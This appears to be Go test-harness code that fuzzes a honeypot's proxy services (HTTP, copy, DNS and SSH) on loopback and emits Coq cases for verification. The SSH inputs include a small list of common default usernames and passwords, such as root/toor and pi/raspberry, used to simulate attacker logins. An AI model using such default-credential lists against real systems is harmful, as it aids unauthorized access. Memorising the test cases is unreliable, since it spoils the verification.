			Data: []hx.B{hx.B("b\na\n")}, Reply: []hx.B{hx.B(r.Bytes(sz))}, HalfClose: true, DelayMs: []int{0, 30, 0}[i]})
	}
	n := 14
	if o.Tier != "quick" {
		n = 90
	}
	for i := 0; i < n; i++ {
		in := SSHInput{User: fmt.Sprintf("%s%d", r.PickStr([]string{"root", "admin", "pi", "ubnt"}), i)}
		np := r.PickInt([]int{1, 1, 2, 3})
		pws := []string{"toor", "admin", "123456", "raspberry", "p@ss w0rd'\"", "", "ubnt"}
		for j := 0; j < np; j++ {
			in.Passwords = append(in.Passwords, pws[r.Intn(len(pws))])
		}
		switch r.Intn(5) {
		case 0: // nothing is accepted
			in.Accept = "never-" + fmt.Sprint(i)
		default:
			in.Accept = in.Passwords[r.Intn(len(in.Passwords))]
			if in.Accept == "" { // the backend never accepts an empty password
				in.Accept = "never-" + fmt.Sprint(i)
			}
		}
		nr := r.PickInt([]int{0, 1, 2, 3, 5})
		types := []string{"env", "env", "pty-req", "shell", "exec", "subsystem", "window-change", "x11-req"}
		for j := 0; j < nr; j++ {
			ty := types[r.Intn(len(types))]
			in.Reqs = append(in.Reqs, SSHReq{Type: ty, Want: r.Chance(2, 3), Payload: sshPayload(r, ty)})
		}
		in.Texty = r.Chance(1, 2)
		mk := func(n int) []byte {
			if in.Texty {
				return r.BytesFrom(n, []byte("abcdefghijklmnopqrstuvwxyz0123456789 \r\n\b$#:/-_"))
			}
			return r.Bytes(n)
		}
		for _, k := range randCuts(r, r.PickInt([]int{0, 1, 10, 100, 1000, 40000, 65536})) {
			in.Data = append(in.Data, hx.B(r.Bytes(k)))
		}
		for _, k := range randCuts(r, r.PickInt([]int{0, 1, 10, 100, 1000, 40000, 65536})) {
			in.Reply = append(in.Reply, hx.B(mk(k)))
		}
		in.Shared = r.Chance(1, 3)
		if r.Chance(1, 4) {
			in.HalfClose = true
			in.DelayMs = r.PickInt([]int{0, 0, 20, 50})
		}
		ins = append(ins, in)
	}
	// own stream: the cases above and the dial part that follows stay what they were
	ins = append(ins, genAuthDialogues(o, hx.NewRand(o.Seed+0xa17))...)
	return ins
}

func coqSSHReqs(qs []SSHReq) string {
	var es []string
	for _, q := range qs {
		es = append(es, fmt.Sprintf("MReq %s %s %s", hx.CoqStr(q.Type), hx.CoqBool(q.Want), coqPacked(q.Payload)))
	}
	return hx.CoqList(es, "smsg")
}

func coqCreds(cs [][2]string) string {
	var es []string
	for _, c := range cs {
		es = append(es, "("+hx.CoqStr(c[0])+", "+hx.CoqStr(c[1])+")")
	}
	return hx.CoqList(es, "(bytes * bytes)")
}

func coqSSHCase(id int, in SSHInput, ob SSHObs) string {
	var pws, data, reply, evr, reps []string
	for _, p := range in.Passwords {
		pws = append(pws, hx.CoqStr(p))
	}
	for _, d := range in.Data {
		data = append(data, coqPacked(d))
	}
	for _, d := range in.Reply {
		reply = append(reply, coqPacked(d))
	}
	for _, t := range ob.EvReqs {
		evr = append(evr, hx.CoqStr(t))
	}
	for _, b := range ob.Replies {
		reps = append(reps, hx.CoqBool(b))
	}
	var verd []string
	for _, v := range ob.Verdicts {
		verd = append(verd, hx.CoqN(uint64(v)))
	}
	return fmt.Sprintf("mkS %s %s %s %s %s %s %s %s %s %s\n     %s %s %s %s %s\n     %s %s %s %s %s %s\n     %s %s %s %s %s %s %s",
		hx.CoqN(uint64(id)), hx.CoqStr(in.User), hx.CoqList(pws, "bytes"), hx.CoqN(uint64(in.PubKeys)), hx.CoqStr(in.Accept), coqSSHReqs(in.Reqs),
		hx.CoqList(data, "bytes"), hx.CoqList(reply, "bytes"), hx.CoqBool(in.Texty), hx.CoqBool(in.HalfClose),
		hx.CoqBool(ob.ClientOK), hx.CoqN(uint64(ob.PkSent)), hx.CoqN(uint64(ob.Sent)), hx.CoqList(verd, "N"), hx.CoqN(uint64(ob.End)),
		coqCreds(ob.BAuth), hx.CoqN(uint64(ob.BConns)), coqSSHReqs(ob.BReqs), coqPacked(ob.BData), coqPacked(ob.CData), hx.CoqList(reps, "bool"),
		hx.CoqN(uint64(ob.EvPk)), coqCreds(ob.EvPw), hx.CoqList(evr, "bytes"), hx.CoqN(uint64(ob.EvChan)), hx.CoqN(uint64(ob.EvSess)), coqPacked(ob.Recording), hx.CoqBool(ob.EvSrcOK))
}

func runSSHPart(o hx.Opts, r *hx.Rand, e *env, replay *Input) {
	var ins []SSHInput
	if replay != nil {
		ins = []SSHInput{*replay.SSH}
	} else {
		ins = genSSHInputs(o, r)
	}
	dist := map[string]int{}
	var cases []hx.Case
	decoy0 := e.decoy.count()
	for i, in := range ins {
		ob, crash := e.runSSH(in, i)
		dist[fmt.Sprintf("passwords:%d", len(in.Passwords))]++
		dist[fmt.Sprintf("passwords-sent:%d", ob.Sent)]++
		if in.PubKeys > 0 {
			dist[fmt.Sprintf("pubkey-offers:%d", in.PubKeys)]++
		}
		if refused := ob.Sent + ob.PkSent; refused > 6 {
			dist["more-than-6-auth-requests-on-one-connection"]++
		}
		dist[fmt.Sprintf("requests:%d", minInt(len(in.Reqs), 5))]++
		if ob.ClientOK {
			dist["authenticated"]++
		} else {
			dist["rejected"]++
		}
		if in.HalfClose {
			dist["client-half-close"]++
		}
		if in.Shared {
			dist["shared-port"]++
		}
		dist["data:"+sizeClass(len(concatB(in.Data)))]++
		dist["reply:"+sizeClass(len(concatB(in.Reply)))]++
		inp := in
		cases = append(cases, hx.Case{ID: i, Kind: "ssh", Input: Input{Part: "ssh", SSH: &inp}, Obs: ob, Crash: crash, Coq: coqSSHCase(i, in, ob)})
	}
	if n := e.decoy.count() - decoy0; n > 0 && len(cases) > 0 && cases[len(cases)-1].Crash == "" {
		cases[len(cases)-1].Crash = fmt.Sprintf("the decoy listener was contacted %d time(s) during the ssh part", n)
	}
	hx.Write(o, "C15", "ssh", coqHeader+"Import SshCheck.\n", "case", cases, dist, nil, 8)
}

var _ = strings.Contains
