// C15 harness: proxy services (http-proxy, copy, dns-proxy, ssh-proxy) with the forward
// director, configured through TOML and run by the real server; harness backends on
// loopback plus a decoy that must never be dialled.
package main

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/honeytrap/honeytrap/storage"
	"verif/harness/hx"
	"verif/harness/lab"
)

// Input is the replayable description of one case (exactly one member is set).
type Input struct {
	Part   string       `json:"part"`
	HTTP   *HttpInput   `json:"http,omitempty"`
	Dial   *DialInput   `json:"dial,omitempty"`
	Raw    *RawInput    `json:"raw,omitempty"`
	SSH    *SSHInput    `json:"ssh,omitempty"`
	Duplex *DuplexInput `json:"duplex,omitempty"`
}

type env struct {
	l      *lab.Lab
	ports  []int
	httpBE *httpBackend
	rawBE  *rawBackend
	udpBE  *udpBackend
	rawBE2 *rawBackend // tcp on the DNS backend's port
	udpBE2 *udpBackend // udp on the raw backend's port
	decoy  *decoy
	sshBE  *sshBackend
	h      *httpEnv
	lnCopy net.Listener // accepted connections have a local port configured for the copy service
	lnDNS  net.Listener // ... for dns-proxy over tcp
	// the same on ports that the proxy SHARES with a detector service listed before it: the
	// server peeks, the detector declines, the proxy is handed the peek wrapper
	lnCopyS net.Listener
	lnDNSS  net.Listener
}

const (
	pHTTP = iota // backend 127.0.0.1:pHTTP
	pNP          // http backend 127.0.0.2:pNP ; proxy port pNP with a port-less director
	pNP2         // a second listening port of the same service and director: backend 127.0.0.2:pNP2
	pRaw         // raw tcp + udp backend
	pDecoy
	pSSH
	pDNS
	pCopyL
	pDNSL
	pCopyS
	pDNSS
	nPorts
)

func startEnv(out string) *env {
	e := &env{ports: lab.FreePorts(nPorts)}
	var err error
	if e.httpBE, err = newHTTPBackend(fmt.Sprintf("127.0.0.1:%d", e.ports[pHTTP]), fmt.Sprintf("127.0.0.2:%d", e.ports[pNP]), fmt.Sprintf("127.0.0.2:%d", e.ports[pNP2])); err != nil {
		hx.Fatal("http backend: %v", err)
	}
	if e.rawBE, err = newRawBackend(fmt.Sprintf("127.0.0.1:%d", e.ports[pRaw])); err != nil {
		hx.Fatal("raw backend: %v", err)
	}
	if e.udpBE, err = newUDPBackend(fmt.Sprintf("127.0.0.1:%d", e.ports[pDNS])); err != nil {
		hx.Fatal("udp backend: %v", err)
	}
	if e.rawBE2, err = newRawBackend(fmt.Sprintf("127.0.0.1:%d", e.ports[pDNS])); err != nil {
		hx.Fatal("raw backend 2: %v", err)
	}
	if e.udpBE2, err = newUDPBackend(fmt.Sprintf("127.0.0.1:%d", e.ports[pRaw])); err != nil {
		hx.Fatal("udp backend 2: %v", err)
	}
	if e.decoy, err = newDecoy(fmt.Sprintf("127.0.0.1:%d", e.ports[pDecoy])); err != nil {
		hx.Fatal("decoy: %v", err)
	}
	if e.sshBE, err = newSSHBackend(fmt.Sprintf("127.0.0.1:%d", e.ports[pSSH])); err != nil {
		hx.Fatal("ssh backend: %v", err)
	}
	if e.lnCopy, err = net.Listen("tcp", fmt.Sprintf("127.0.0.1:%d", e.ports[pCopyL])); err != nil {
		hx.Fatal("listen: %v", err)
	}
	if e.lnDNS, err = net.Listen("tcp", fmt.Sprintf("127.0.0.1:%d", e.ports[pDNSL])); err != nil {
		hx.Fatal("listen: %v", err)
	}
	if e.lnCopyS, err = net.Listen("tcp", fmt.Sprintf("127.0.0.1:%d", e.ports[pCopyS])); err != nil {
		hx.Fatal("listen: %v", err)
	}
	if e.lnDNSS, err = net.Listen("tcp", fmt.Sprintf("127.0.0.1:%d", e.ports[pDNSS])); err != nil {
		hx.Fatal("listen: %v", err)
	}
	var sb strings.Builder
	sb.WriteString("[listener]\ntype=\"c15-inj\"\n\n")
	fmt.Fprintf(&sb, "[director.fwd]\ntype=\"forward\"\nhost=\"127.0.0.1:%d\"\n\n", e.ports[pHTTP])
	sb.WriteString("[director.fwdnp]\ntype=\"forward\"\nhost=\"127.0.0.2\"\n\n")
	fmt.Fprintf(&sb, "[director.fwdraw]\ntype=\"forward\"\nhost=\"127.0.0.1:%d\"\n\n", e.ports[pRaw])
	fmt.Fprintf(&sb, "[director.fwddns]\ntype=\"forward\"\nhost=\"127.0.0.1:%d\"\n\n", e.ports[pDNS])
	fmt.Fprintf(&sb, "[director.fwdssh]\ntype=\"forward\"\nhost=\"127.0.0.1:%d\"\n\n", e.ports[pSSH])
	// a director nobody references: the decoy address appears in the configuration but no service may use it
	fmt.Fprintf(&sb, "[director.unused]\ntype=\"forward\"\nhost=\"127.0.0.1:%d\"\n\n", e.ports[pDecoy])
	sb.WriteString("[service.hp]\ntype=\"http-proxy\"\ndirector=\"fwd\"\n\n")
	sb.WriteString("[service.hpnp]\ntype=\"http-proxy\"\ndirector=\"fwdnp\"\n\n")
	sb.WriteString("[service.cp]\ntype=\"copy\"\ndirector=\"fwdraw\"\n\n")
	sb.WriteString("[service.dp]\ntype=\"dns-proxy\"\ndirector=\"fwddns\"\n\n")
	sb.WriteString("[service.sp]\ntype=\"ssh-proxy\"\ndirector=\"fwdssh\"\n\n")
	sb.WriteString("[[port]]\nport=\"tcp/8080\"\nservices=[\"hp\"]\n\n")
	fmt.Fprintf(&sb, "[[port]]\nport=\"tcp/%d\"\nservices=[\"hpnp\"]\n\n", e.ports[pNP])
	fmt.Fprintf(&sb, "[[port]]\nport=\"tcp/%d\"\nservices=[\"hpnp\"]\n\n", e.ports[pNP2])
	sb.WriteString("[[port]]\nport=\"tcp/7000\"\nservices=[\"cp\"]\n\n")
	fmt.Fprintf(&sb, "[[port]]\nport=\"tcp/%d\"\nservices=[\"cp\"]\n\n", e.ports[pCopyL])
	fmt.Fprintf(&sb, "[[port]]\nport=\"tcp/%d\"\nservices=[\"dp\"]\n\n", e.ports[pDNSL])
	// shared ports: a service with a detector (which never accepts) is listed first
	sb.WriteString("[service.det]\ntype=\"verif-stub-det\"\nname=\"det\"\nprefix=\"\\u0000\\u0001never-sent\"\n\n")
	sb.WriteString("[[port]]\nport=\"tcp/8081\"\nservices=[\"det\",\"hp\"]\n\n")
	sb.WriteString("[[port]]\nport=\"tcp/2222\"\nservices=[\"det\",\"sp\"]\n\n")
	sb.WriteString("[[port]]\nport=\"udp/7001\"\nservices=[\"det\",\"cp\"]\n\n")
	sb.WriteString("[[port]]\nport=\"udp/54\"\nservices=[\"det\",\"dp\"]\n\n")
	fmt.Fprintf(&sb, "[[port]]\nport=\"tcp/%d\"\nservices=[\"det\",\"cp\"]\n\n", e.ports[pCopyS])
	fmt.Fprintf(&sb, "[[port]]\nport=\"tcp/%d\"\nservices=[\"det\",\"dp\"]\n\n", e.ports[pDNSS])
	sb.WriteString("[[port]]\nport=\"udp/7000\"\nservices=[\"cp\"]\n\n")
	sb.WriteString("[[port]]\nport=\"udp/53\"\nservices=[\"dp\"]\n\n")
	sb.WriteString("[[port]]\nport=\"tcp/53\"\nservices=[\"dp\"]\n\n")
	sb.WriteString("[[port]]\nport=\"tcp/22\"\nservices=[\"sp\"]\n\n")
	sb.WriteString("[channel.cap]\ntype=\"verif-cap\"\nname=\"cap\"\n\n[[filter]]\nchannel=[\"cap\"]\n")
	dbdir := filepath.Join(out, "c15db")
	os.RemoveAll(dbdir)
	os.MkdirAll(dbdir, 0o755)
	storage.SetDataDir(dbdir)
	l, err := lab.Start(sb.String(), out)
	if err != nil {
		hx.Fatal("lab start: %v", err)
	}
	if !l.Started() {
		hx.Fatal("server returned before starting the listener")
	}
	e.l = l
	// test aid for seeded mutations of /repo: where the decoy listens
	os.Setenv("C15_DECOY_PORT", fmt.Sprint(e.ports[pDecoy]))
	e.h = &httpEnv{l: l, be: e.httpBE, port: 8080, portNP: e.ports[pNP], portNP2: e.ports[pNP2], portBE: e.ports[pHTTP], decoy: e.decoy, idleDur: 2500 * time.Millisecond}
	return e
}

func main() {
	o := hx.ParseArgs()
	r := hx.NewRand(o.Seed)
	out, err := filepath.Abs(o.Out)
	if err != nil {
		hx.Fatal("abs: %v", err)
	}
	var replay *Input
	if o.Only != "" {
		var in Input
		if err := hx.LoadReplay(o.Only, &in); err != nil {
			hx.Fatal("replay: %v", err)
		}
		replay = &in
	}
	e := startEnv(out)
	defer e.l.Stop()
	if replay == nil || replay.Part == "http" {
		runHTTPPart(o, r, e, replay)
	}
	if replay == nil || replay.Part == "raw" {
		runRawPart(o, r, e, replay)
	}
	if replay == nil || replay.Part == "duplex" {
		runDuplexPart(o, r, e, replay)
	}
	if replay == nil || replay.Part == "ssh" {
		runSSHPart(o, r, e, replay)
	}
	// last: the dial part calls Dial with configurations of its own (none names the decoy)
	if replay == nil || replay.Part == "dial" {
		runDialPart(o, r, e, replay)
	}
}

const coqHeader = "From Coq Require Import Uint63.\nFrom HT Require Import Common.Bytes Common.Pack C15.Model C15.Check.\n"

func runHTTPPart(o hx.Opts, r *hx.Rand, e *env, replay *Input) {
	var ins []HttpInput
	if replay != nil {
		ins = []HttpInput{*replay.HTTP}
	} else {
		ins = genHTTPInputs(o, r)
	}
	dist := map[string]int{}
	var cases []hx.Case
	decoy0 := e.decoy.count()
	for i := 0; i < len(ins); {
		j := i + 1
		for j < len(ins) && ins[j].Group == ins[i].Group && ins[i].Group != 0 {
			j++
		}
		var ids []string
		for k := i; k < j; k++ {
			ids = append(ids, fmt.Sprintf("h%d", k))
		}
		d0 := e.decoy.count()
		obs, crash := e.h.runGroup(ins[i:j], ids)
		if e.decoy.count() > d0 { // somebody talked to the decoy while this group ran
			for k := range obs {
				obs[k].BPeersOK = false
			}
		}
		for k := i; k < j; k++ {
			in := ins[k]
			dist["class:"+in.Class]++
			dist[fmt.Sprintf("requests:%d", len(in.Msgs))]++
			dist[fmt.Sprintf("concurrent:%d", j-i)]++
			if in.NoPort {
				dist["director-without-port"]++
			}
			if in.RealTCP {
				dist["client-leg-real-tcp"]++
			}
			if in.Shared {
				dist["shared-port"]++
			}
			tot := 0
			for _, m := range in.Msgs {
				tot += len(m)
			}
			dist["stream-size:"+sizeClass(tot)]++
			inp := in
			cases = append(cases, hx.Case{ID: k, Kind: httpKind(in), Input: Input{Part: "http", HTTP: &inp}, Obs: obs[k-i], Crash: crash[k-i],
				Coq: coqHTTPCase(k, in, obs[k-i])})
		}
		i = j
	}
	extra := map[string]interface{}{"decoy_connections": e.decoy.count() - decoy0}
	hx.Write(o, "C15", "http", coqHeader+"Import HttpCheck.\n", "case", cases, dist, extra, 24)
}

func sizeClass(n int) string {
	switch {
	case n < 512:
		return "<512"
	case n < 4096:
		return "<4096"
	case n < 16384:
		return "<16K"
	default:
		return ">=16K"
	}
}

func genHTTPInputs(o hx.Opts, r *hx.Rand) []HttpInput {
	var ins []HttpInput
	add := func(in HttpInput) { in.Marker = fmt.Sprintf("h%d", len(ins)); ins = append(ins, in) }
	id := func() string { return fmt.Sprintf("h%d", len(ins)) }
	// corpus: pinned witnesses first
	add(corpusPragma(id())) // the one finding that remains: first in the corpus
	add(corpusNoUA(id()))
	add(corpusPipelinedOneWrite(id()))
	nLock, nPipe, nMal, nCut := 60, 24, 12, 16
	if o.Tier != "quick" {
		nLock, nPipe, nMal, nCut = 500, 150, 80, 200
	}
	group := 1
	for i := 0; i < nLock; i++ {
		small := r.Chance(3, 5)
		in := genLockstep(r, id(), r.PickInt([]int{1, 1, 2, 3, 4}), small)
		in.NoPort = r.Chance(1, 5)
		in.Shared = r.Chance(1, 3)
		in.RealTCP = r.Chance(1, 6)
		in.Group = group
		if r.Chance(1, 2) {
			group++
		}
		add(in)
	}
	group++
	// every single-cut segmentation of one small request (sampled in the quick tier)
	{
		g := genRequest(r, "x", true, false)
		for len(g.raw) > 400 {
			g = genRequest(r, "x", true, false)
		}
		step := len(g.raw)/nCut + 1
		if o.Tier != "quick" {
			step = 1
		}
		for c := 1; c < len(g.raw); c += step {
			raw := []byte(strings.Replace(string(g.raw), markerHeader+": x\r\n", markerHeader+": "+id()+"\r\n", 1))
			in := genSingleCut(r, id(), raw, g.method, c+len(raw)-len(g.raw))
			in.Group = group
			if c%3 == 0 {
				group++
			}
			add(in)
		}
	}
	group++
	for i := 0; i < nPipe; i++ {
		in := genPipelined(r, id(), i%3)
		in.Group = group
		if i%3 == 2 {
			group++
		}
		add(in)
	}
	group++
	for i := 0; i < nMal/2+2; i++ {
		in := genHalfClose(r, id(), i)
		in.Group = group
		if i%3 == 2 {
			group++
		}
		add(in)
	}
	group++
	{
		// the exchange after n good ones fails, in every way x every way of writing the stream
		k := 0
		for _, how := range []string{"fin", "rst", "bad", "cut", "noreply", "garbage", "cutreply"} {
			reps := 4
			if o.Tier != "quick" {
				reps = 16
			}
			for j := 0; j < reps; j++ {
				in := genNextFails(r, id(), how, j, 1+(j*37+k*11)%300)
				in.Group = group
				in.RealTCP = j%3 == 0
				in.Shared = j%4 == 1
				if k%4 == 3 {
					group++
				}
				k++
				add(in)
			}
		}
		if o.Tier != "quick" {
			// an incomplete request n+1 cut at EVERY point
			g := genRequest(r, "x", true, false)
			for len(g.raw) > 300 {
				g = genRequest(r, "x", true, false)
			}
			for c := 1; c < len(g.raw); c++ {
				in := genNextFails(r, id(), "cut", c%3, c)
				in.Group = group
				if c%4 == 3 {
					group++
				}
				add(in)
			}
		}
	}
	group++
	for i := 0; i < nMal/2; i++ {
		in := genOversend(r, id())
		in.Group = group
		if i%3 == 2 {
			group++
		}
		add(in)
	}
	group++
	for i := 0; i < nMal; i++ {
		in := genMalformed(r, id())
		in.Group = group
		if i%3 == 2 {
			group++
		}
		add(in)
	}
	return ins
}

// the remaining finding: net/http's parser adds Cache-Control: no-cache to a message that
// only says Pragma: no-cache
func corpusPragma(id string) HttpInput {
	raw := []byte("GET /p HTTP/1.1\r\nHost: example.com\r\nUser-Agent: curl/7.58.0\r\nPragma: no-cache\r\n" + markerHeader + ": " + id + "\r\n\r\n")
	return HttpInput{Class: "lockstep", Msgs: []hx.B{raw}, Items: []Item{{Seg: len(raw)}, {Wait: 1}},
		Replies: []HReply{{Raw: []byte("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"), Cuts: []int{39}}}}
}

func corpusNoUA(id string) HttpInput {
	raw := []byte("GET /probe HTTP/1.1\r\nHost: example.com\r\n" + markerHeader + ": " + id + "\r\n\r\n")
	return HttpInput{Class: "lockstep", Msgs: []hx.B{raw}, Items: []Item{{Seg: len(raw)}, {Wait: 1}},
		Replies: []HReply{{Raw: []byte("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"), Cuts: []int{10, 29}}}}
}

func corpusPipelinedOneWrite(id string) HttpInput {
	a := []byte("GET /first HTTP/1.1\r\nHost: example.com\r\nUser-Agent: curl/7.58.0\r\n" + markerHeader + ": " + id + "\r\n\r\n")
	b := []byte("GET /second HTTP/1.1\r\nHost: example.com\r\nUser-Agent: curl/7.58.0\r\n" + markerHeader + ": " + id + "\r\n\r\n")
	rep := HReply{Raw: []byte("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"), Cuts: []int{39}}
	return HttpInput{Class: "pipelined", Msgs: []hx.B{a, b}, Items: []Item{{Seg: len(a) + len(b)}, {Wait: 2}}, Replies: []HReply{rep, rep}}
}

// httpKind: the case kind (known findings are limited to kinds); a half-closing client is a
// lock-step or pipelining client that shuts its sending side down early.
func httpKind(in HttpInput) string {
	if in.Class == "nextfails" {
		if lockstepItems(in) {
			return "http-lockstep"
		}
		return "http-pipelined"
	}
	if in.Class == "halfclose" {
		if len(in.Msgs) > 1 {
			return "http-pipelined"
		}
		return "http-lockstep"
	}
	return "http-" + in.Class
}

func lockstepItems(in HttpInput) bool {
	waits := 0
	for _, it := range in.Items {
		if it.Wait > 0 {
			waits++
		}
	}
	return waits >= len(in.Msgs)
}
