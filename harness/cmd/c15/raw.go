// C15 part "raw": copy and dns-proxy.  "server": the connection goes through the real
// server (which wraps it in server.TimeoutConn before Handle); "bare": Handle is called
// directly with the accepted connection itself.  (Before the repair 5e72194 only the
// bare connection reached the relaying branches.)
package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/listener"
	"github.com/honeytrap/honeytrap/services"
	"github.com/miekg/dns"
	"verif/harness/hx"
)

type RawInput struct {
	Svc       string `json:"service"`   // copy | dns-proxy
	Transport string `json:"transport"` // tcp | udp
	Via       string `json:"via"`       // server | bare
	Segs      []hx.B `json:"segments"`  // client writes (udp: one datagram)
	Reply     []hx.B `json:"reply"`     // backend's reply writes (udp: one datagram, none = no reply)
	// a case that is one client of a concurrent scenario carries the whole scenario (replay runs it all)
	DelayMs int `json:"delay_ms,omitempty"` // the backend is late with its reply (streams)
	// Shared (through the server only): the port is shared with a detector service listed
	// before the proxy, so findService peeks and the proxy gets the peek wrapper
	Shared bool          `json:"shared_port,omitempty"`
	Conc   *ConcScenario `json:"concurrent,omitempty"`
	Me     int           `json:"me,omitempty"`
}

type RawObs struct {
	Dials       int  `json:"backend_connections"`
	Backend     hx.B `json:"backend_received"`
	Client      hx.B `json:"client_received"`
	Events      int  `json:"events"`
	Parses      bool `json:"datagram_is_dns"`
	EvPayloadOK bool `json:"event_payload_ok"` // the event of a datagram that is not DNS carries the datagram as payload
}

type recChannel struct {
	mu  sync.Mutex
	evs []event.Event
}

func (c *recChannel) Send(e event.Event) { c.mu.Lock(); c.evs = append(c.evs, e); c.mu.Unlock() }
func (c *recChannel) of(cat string, src net.Addr) []event.Event {
	c.mu.Lock()
	defer c.mu.Unlock()
	var out []event.Event
	for _, e := range c.evs {
		if e.Get("category") == cat && fromAddr(e, src) {
			out = append(out, e)
		}
	}
	return out
}

// fromAddr: the event is attributed (source-ip, source-port) to the given client address.
func fromAddr(e event.Event, src net.Addr) bool {
	if src == nil {
		return true
	}
	var ip string
	var port int
	switch a := src.(type) {
	case *net.TCPAddr:
		ip, port = a.IP.String(), a.Port
	case *net.UDPAddr:
		ip, port = a.IP.String(), a.Port
	}
	ok := false
	e.Range(func(k, v interface{}) bool {
		if k == "source-port" {
			if p, isInt := v.(int); isInt && p == port {
				ok = true
			}
		}
		return true
	})
	return ok && e.Get("source-ip") == ip
}

func catOf(svc string) string {
	if svc == "copy" {
		return "copy"
	}
	return "dns-proxy"
}

func (e *env) capOf(cat string, src net.Addr) []event.Event {
	var out []event.Event
	for _, ev := range e.l.EventsOf("cap") {
		if ev.Get("category") == cat && fromAddr(ev, src) {
			out = append(out, ev)
		}
	}
	return out
}

func (e *env) capCount(cat string, src net.Addr) int { return len(e.capOf(cat, src)) }

// dnsFrame: the message of a length-framed stream (RFC 1035 4.2.2), if it is complete.
func dnsFrame(stream []byte) ([]byte, bool) {
	if len(stream) < 2 {
		return nil, false
	}
	n := int(stream[0])<<8 | int(stream[1])
	if len(stream)-2 < n {
		return nil, false
	}
	return stream[2 : 2+n], true
}

func concatB(bs []hx.B) []byte {
	var out []byte
	for _, b := range bs {
		out = append(out, b...)
	}
	return out
}

var rawMu sync.Mutex
var udpSeq int32

func (e *env) runRaw(in RawInput) (RawObs, string) {
	rawMu.Lock()
	defer rawMu.Unlock()
	var ob RawObs
	sent := concatB(in.Segs)
	seen := sent
	if in.Transport == "udp" {
		ob.Parses = new(dns.Msg).Unpack(seen) == nil
	} else if in.Svc == "dns-proxy" && len(in.Segs) > 0 {
		// the stream branch reads one length-framed message: the oracle is about that message
		if m, ok := dnsFrame(sent); ok {
			ob.Parses = new(dns.Msg).Unpack(m) == nil
		}
	}
	want := len(sent)
	if in.Svc == "dns-proxy" && in.Transport == "tcp" {
		if m, ok := dnsFrame(sent); ok {
			want = 2 + len(m) // what the proxy forwards
		}
	}
	// backend scripts
	var reply [][]byte
	for _, r := range in.Reply {
		reply = append(reply, r)
	}
	for _, rb := range []*rawBackend{e.rawBE, e.rawBE2} {
		rb.mu.Lock()
		rb.script = rawScript{Want: want, Reply: reply, DelayMs: in.DelayMs}
		rb.mu.Unlock()
	}
	for _, ub := range []*udpBackend{e.udpBE, e.udpBE2} {
		ub.mu.Lock()
		ub.reply = func(d []byte) []byte {
			if len(reply) > 0 {
				return reply[0]
			}
			return nil
		}
		ub.mu.Unlock()
	}
	tcp0 := len(e.rawBE.snapshot())
	udp0 := len(e.udpBE.snapshot())
	tcp20 := len(e.rawBE2.snapshot())
	udp20 := len(e.udpBE2.snapshot())
	// which backend a service's director points to: copy -> rawBE (tcp) ; dns-proxy -> udpBE / rawBE has no dns
	cat := catOf(in.Svc)
	var clientGot []byte
	var cmu sync.Mutex
	var rec *recChannel
	var clientAddr net.Addr // the address the events must be attributed to
	ev0 := 0
	var svc services.Servicer
	if in.Via == "bare" {
		rec = &recChannel{}
		fn, ok := services.Get(in.Svc)
		if !ok {
			hx.Fatal("service %s not registered", in.Svc)
		}
		port := e.ports[pRaw]
		if in.Svc == "dns-proxy" || in.Transport == "udp" {
			port = e.ports[pDNS]
		}
		d, err := mkDirector(fmt.Sprintf("127.0.0.1:%d", port))
		if err != nil {
			hx.Fatal("director: %v", err)
		}
		svc = fn(services.WithChannel(rec), services.WithDirector(d))
	}
	switch in.Transport {
	case "tcp":
		sc, cc, err := tcpPair()
		if err != nil {
			hx.Fatal("tcp pair: %v", err)
		}
		done := make(chan struct{})
		if in.Via == "bare" {
			go func() {
				defer close(done)
				svc.Handle(context.Background(), sc)
			}()
		} else {
			// the accepted *net.TCPConn itself, as the socket listener would hand it over; its
			// local port must be a configured one: the pair is made on the configured listener port
			sc.Close()
			cc.Close()
			var err error
			sc, cc, err = e.tcpPairOn(in.Svc, in.Shared)
			if err != nil {
				hx.Fatal("tcp pair: %v", err)
			}
			if !inject(sc) {
				return ob, "server does not accept"
			}
			close(done)
		}
		clientAddr = cc.LocalAddr()
		ev0 = e.capCount(cat, clientAddr)
		rd := make(chan struct{})
		go func() {
			defer close(rd)
			buf := make([]byte, 65536)
			for {
				cc.SetReadDeadline(time.Now().Add(3 * time.Second))
				n, err := cc.Read(buf)
				cmu.Lock()
				clientGot = append(clientGot, buf[:n]...)
				cmu.Unlock()
				if err != nil {
					return
				}
			}
		}()
		for _, s := range in.Segs {
			if _, err := cc.Write(s); err != nil {
				break
			}
			time.Sleep(300 * time.Microsecond)
		}
		if in.Svc == "dns-proxy" {
			// a DNS client that has sent its query: nothing more will come (a stream that is
			// not a complete framed message ends here instead of holding the proxy for 30 s)
			cc.CloseWrite()
		}
		// the proxy (or the backend through it) ends the exchange; give up after a while
		select {
		case <-rd:
		case <-time.After(1500 * time.Millisecond):
		}
		cc.Close()
		select {
		case <-done:
		case <-time.After(3 * time.Second):
			return ob, "Handle did not return"
		}
		<-rd
	case "udp":
		port := 7000
		if in.Svc == "dns-proxy" {
			port = 53
		}
		if in.Shared {
			port++ // 7001 / 54: shared with a detector service
		}
		uc := &listener.DummyUDPConn{Buffer: append([]byte(nil), sent...),
			Laddr: &net.UDPAddr{IP: net.ParseIP("127.0.0.1"), Port: port},
			Raddr: &net.UDPAddr{IP: net.ParseIP("198.51.100.7"), Port: 10000 + int(atomic.AddInt32(&udpSeq, 1))%50000},
			Fn: func(b []byte, addr *net.UDPAddr) (int, error) {
				cmu.Lock()
				clientGot = append(clientGot, b...)
				cmu.Unlock()
				return len(b), nil
			}}
		clientAddr = uc.Raddr
		ev0 = e.capCount(cat, clientAddr)
		if in.Via == "bare" {
			done := make(chan struct{})
			go func() {
				defer close(done)
				svc.Handle(context.Background(), uc)
			}()
			select {
			case <-done:
			case <-time.After(3 * time.Second):
				return ob, "Handle did not return"
			}
		} else {
			if !inject(uc) {
				return ob, "server does not accept"
			}
			// a DummyUDPConn has no close to wait for: wait until the exchange that the input
			// calls for is visible (backend has the datagram, client its reply), at most 1.5 s
			expectReply := len(reply) > 0
			deadline := time.Now().Add(1500 * time.Millisecond)
			for time.Now().Before(deadline) {
